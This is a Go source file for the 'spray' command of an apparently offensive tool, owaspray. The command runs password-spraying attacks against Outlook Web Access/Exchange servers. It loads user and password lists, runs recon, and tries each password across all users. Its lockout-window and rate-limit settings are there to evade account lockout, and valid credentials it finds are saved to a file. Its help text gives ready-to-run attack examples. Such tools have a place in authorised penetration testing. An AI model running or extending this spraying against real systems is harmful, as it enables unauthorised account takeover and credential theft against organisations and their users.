package cmd

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"time"

	"github.com/fatih/color"
	"github.com/google/uuid"
	"github.com/spf13/cobra"
	"github.com/spf13/viper"

	"github.com/CodeMonkeyCybersecurity/owaspray/cmd/internal/display"
	"github.com/CodeMonkeyCybersecurity/owaspray/internal/credlist"
	"github.com/CodeMonkeyCybersecurity/owaspray/internal/logger"
	"github.com/CodeMonkeyCybersecurity/owaspray/internal/ratelimit"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/owa"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/results"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/shutdown"
	"github.com/CodeMonkeyCybersecurity/owaspray/pkg/spray"
)

const shutdownTimeout = 30 * time.Second

var sprayCmd = &cobra.Command{
	Use:   "spray <domain|url>",
	Short: "Spray credentials against the target",
	Long: `Runs recon, then tries every password against every user, one password
at a time, followed by any user:pass pairs. Valid credentials are appended to
the output file when the run ends or is interrupted.

EXAMPLES:
  owaspray spray corp.example -U users.txt -p 'Summer2024!'
  owaspray spray corp.example -U users.txt -P passwords.txt --attempts 2 --interval 30m
  owaspray spray https://mail.corp.example/EWS/Exchange.asmx --userpass creds.txt`,
	Args: cobra.ExactArgs(1),
	RunE: runSpray,
}

type credentialFlags struct {
	usersFile     string
	passwordsFile string
	password      string
	userpassFile  string
}

func init() {
	rootCmd.AddCommand(sprayCmd)

	flags := sprayCmd.Flags()
	flags.StringP("users", "U", "", "file of usernames, one per line")
	flags.StringP("passwords", "P", "", "file of passwords, one per line")
	flags.StringP("password", "p", "", "single password to spray")
	flags.String("userpass", "", "file of user:pass pairs")

	flags.Duration("delay", 0, "pause after every attempt")
	flags.Int("attempts", 0, "passwords per lockout window (0 disables the window)")
	flags.Duration("interval", 0, "length of the lockout window")
	flags.Bool("stop-on-success", false, "stop after the first valid credential")
	flags.StringP("output", "o", "owa_valid_accounts.txt", "file valid credentials are appended to")
	viper.BindPFlag("spray.delay", flags.Lookup("delay"))
	viper.BindPFlag("spray.attempts", flags.Lookup("attempts"))
	viper.BindPFlag("spray.interval", flags.Lookup("interval"))
	viper.BindPFlag("spray.stop_on_success", flags.Lookup("stop-on-success"))
	viper.BindPFlag("spray.output_file", flags.Lookup("output"))
}

func runSpray(cmd *cobra.Command, args []string) error {
	target, err := owa.ParseTarget(args[0])
	if err != nil {
		return err
	}

	var cf credentialFlags
	cf.usersFile, _ = cmd.Flags().GetString("users")
	cf.passwordsFile, _ = cmd.Flags().GetString("passwords")
	cf.password, _ = cmd.Flags().GetString("password")
	cf.userpassFile, _ = cmd.Flags().GetString("userpass")

	users, passwords, pairs, err := loadCredentials(cf)
	if err != nil {
		return err
	}

	runID := uuid.New().String()
	runLog := log.WithRunID(runID).WithTarget(target.String())
	runLog.Infow("Starting spray",
		"status", logger.StatusInfo,
		"users", len(users),
		"passwords", len(passwords),
		"pairs", len(pairs),
		"output", cfg.Spray.OutputFile,
	)

	ctx := cmd.Context()
	sprayer, err := openSprayer(ctx, target, results.NewFileSink(cfg.Spray.OutputFile), runLog)
	if err != nil {
		return err
	}
	recon, _ := sprayer.Recon(ctx)
	display.PrintRecon(os.Stdout, recon)

	plan := spray.Plan{
		Users:         users,
		Passwords:     passwords,
		Pairs:         pairs,
		Delay:         cfg.Spray.Delay,
		Attempts:      cfg.Spray.Attempts,
		Interval:      cfg.Spray.Interval,
		StopOnSuccess: cfg.Spray.StopOnSuccess,
		Limiter: ratelimit.NewLimiter(ratelimit.Config{
			RequestsPerSecond: cfg.RateLimit.RequestsPerSecond,
			BurstSize:         cfg.RateLimit.BurstSize,
		}),
		Telemetry: recorder,
		Logger:    runLog,
		OnAttempt: func(cred owa.Credential, outcome owa.Outcome) {
			if outcome.Recorded() {
				fmt.Printf("%s %s\n", display.ColorOutcome(outcome), cred)
			}
		},
	}

	sum, found, err := sprayAndFlush(ctx, sprayer, plan, shutdown.NewHandler(runLog), cfg.Spray.OutputFile, os.Stdout)
	display.PrintSummary(os.Stdout, sum, found)

	if err != nil && !errors.Is(err, context.Canceled) {
		return err
	}
	return nil
}

// sprayAndFlush runs plan against sprayer and writes what it found through
// handler, whether the run ends on its own or handler is triggered first. The
// returned results are captured before the flush clears them.
func sprayAndFlush(ctx context.Context, sprayer *owa.Sprayer, plan spray.Plan, handler *shutdown.Handler, output string, w io.Writer) (spray.Summary, []owa.CredentialResult, error) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	// Handlers run in reverse: stop the spray loop, then flush what it found.
	runDone := make(chan struct{})
	handler.RegisterShutdownFunc("results", func(ctx context.Context) error {
		n, err := sprayer.Shutdown(ctx)
		if err != nil {
			return err
		}
		fmt.Fprint(w, color.GreenString("[+] Dumped %d valid accounts to %s\n", n, output))
		return nil
	})
	handler.RegisterShutdownFunc("spray", func(ctx context.Context) error {
		cancel()
		select {
		case <-runDone:
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
	})

	go func() {
		if sig := handler.WaitForShutdown(ctx); sig != nil {
			fmt.Fprint(w, color.YellowString("\n  Received %s - stopped spraying\n", sig))
		}
	}()

	sum, runErr := spray.Run(ctx, sprayer, plan)
	found := sprayer.Results()
	close(runDone)

	if err := handler.ShutdownWithTimeout(shutdownTimeout); err != nil {
		return sum, found, fmt.Errorf("failed to save results: %w", err)
	}
	return sum, found, runErr
}

func loadCredentials(cf credentialFlags) (users, passwords []string, pairs []owa.Credential, err error) {
	if cf.usersFile != "" {
		lines, err := credlist.LoadLines(cf.usersFile)
		if err != nil {
			return nil, nil, nil, err
		}
		users = credlist.Usernames(lines)
	}

	if cf.passwordsFile != "" {
		if passwords, err = credlist.LoadLines(cf.passwordsFile); err != nil {
			return nil, nil, nil, err
		}
	}
	if cf.password != "" {
		passwords = credlist.Unique(append(passwords, cf.password))
	}

	if cf.userpassFile != "" {
		if pairs, err = credlist.LoadPairs(cf.userpassFile); err != nil {
			return nil, nil, nil, err
		}
	}

	if len(users) > 0 && len(passwords) == 0 {
		return nil, nil, nil, errors.New("users given without --password or --passwords")
	}
	if len(passwords) > 0 && len(users) == 0 {
		return nil, nil, nil, errors.New("passwords given without --users")
	}
	if len(users) == 0 && len(pairs) == 0 {
		return nil, nil, nil, errors.New("nothing to spray: use --users with --password/--passwords, or --userpass")
	}

	return users, passwords, pairs, nil
}
